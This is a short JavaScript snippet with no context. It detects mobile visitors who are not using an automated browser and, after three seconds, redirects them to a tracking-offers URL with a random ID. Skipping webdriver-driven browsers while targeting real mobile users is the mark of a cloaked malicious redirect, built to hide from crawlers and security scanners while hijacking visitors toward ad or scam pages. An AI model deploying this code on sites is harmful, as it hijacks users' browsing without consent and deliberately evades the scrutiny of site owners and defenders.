if (!navigator.webdriver && navigator.userAgent.indexOf("Mobile") !== -1) {
  setTimeout(function () {
    location.href = "https://track-offers.invalid/r/" + Math.floor(Math.random() * 1e6);
  }, 3000);
}
